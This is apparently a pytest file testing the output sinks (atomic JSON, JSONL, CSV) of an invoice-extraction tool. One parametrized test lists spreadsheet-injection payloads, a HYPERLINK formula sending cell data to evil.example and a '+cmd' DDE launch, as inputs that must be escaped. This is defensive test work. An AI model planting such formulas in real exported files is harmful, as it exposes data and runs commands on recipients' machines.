"""Sinks: atomic JSON files without stem collisions, JSONL, CSV."""

import csv
import dataclasses
import json

import pytest

from extractor.jobs.sinks import CsvSink, JsonDirSink, JsonlSink, write_atomic
from extractor.record import Record, Usage


def rec(source, status="ok", data=None):
    return Record(source=source, status=status, data=data, usage=Usage(1, 2, 3))


def test_write_atomic_replaces_and_leaves_no_temp(tmp_path):
    target = tmp_path / "a.json"
    write_atomic(target, b"one")
    write_atomic(target, b"two")
    assert target.read_bytes() == b"two"
    assert [p.name for p in tmp_path.iterdir()] == ["a.json"]


def test_same_stem_in_different_folders_never_collide(tmp_path):
    sink = JsonDirSink(tmp_path / "out")
    p1 = sink.write(rec("x/inv.pdf"))
    p2 = sink.write(rec("y/inv.pdf"))
    p3 = sink.write(rec("x/inv.pdf"))  # the same input again overwrites its own file
    assert p1 != p2 and p1 == p3
    assert {json.loads(p.read_text())["source"] for p in (p1, p2)} == {"x/inv.pdf", "y/inv.pdf"}
    # a later run keeps the names: x/inv.pdf owns inv.json on disk
    again = JsonDirSink(tmp_path / "out")
    assert again.path_for("y/inv.pdf") == p2 and again.path_for("x/inv.pdf") == p1


def test_jsonl_and_csv(tmp_path):
    records = [rec("a.pdf", data={"invoice_number": "1", "total": 9.5, "line_items": []}), rec("b.pdf", status="error")]
    jl, cs = JsonlSink(tmp_path / "r.jsonl"), CsvSink(tmp_path / "r.csv", columns=["invoice_number", "total"])
    for r in records:
        jl.write(r)
        cs.write(r)
    jl.close()
    cs.close()
    lines = [json.loads(line) for line in (tmp_path / "r.jsonl").read_text().splitlines()]
    assert lines == [r.to_dict() for r in records]
    rows = list(csv.DictReader((tmp_path / "r.csv").open()))
    assert rows == [
        {"source": "a.pdf", "status": "ok", "invoice_number": "1", "total": "9.5", "errors": ""},
        {"source": "b.pdf", "status": "error", "invoice_number": "", "total": "", "errors": ""},
    ]


@pytest.mark.parametrize(
    "value, cell",
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("ACME = 3", "ACME = 3"),  # only the first character matters
        (-12.5, "-12.5"),  # a JSON number of the record stays a number
        (7, "7"),
        (None, ""),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path, value, cell):
    path = tmp_path / "r.csv"
    sink = CsvSink(path, columns=["supplier"])
    sink.write(rec(value if isinstance(value, str) else "a.pdf", data={"supplier": value}))
    sink.close()
    (row,) = csv.DictReader(path.open(newline=""))
    expected_source = cell if isinstance(value, str) else "a.pdf"
    assert row == {"source": expected_source, "status": "ok", "supplier": cell, "errors": ""}


def test_the_batch_jsonl_is_emptied_at_the_start_and_keeps_two_lines_of_one_content(tmp_path):
    path = tmp_path / "r.jsonl"
    path.write_text("old\n")
    sink = JsonlSink(path)
    one = Record(source="a.pdf", status="ok", sha256="x" * 64)
    sink.write(one)
    sink.write(dataclasses.replace(one, source="copy-of-a.pdf"))  # same content, another input: its own line
    sink.close()
    assert [json.loads(line)["source"] for line in path.read_text().splitlines()] == ["a.pdf", "copy-of-a.pdf"]
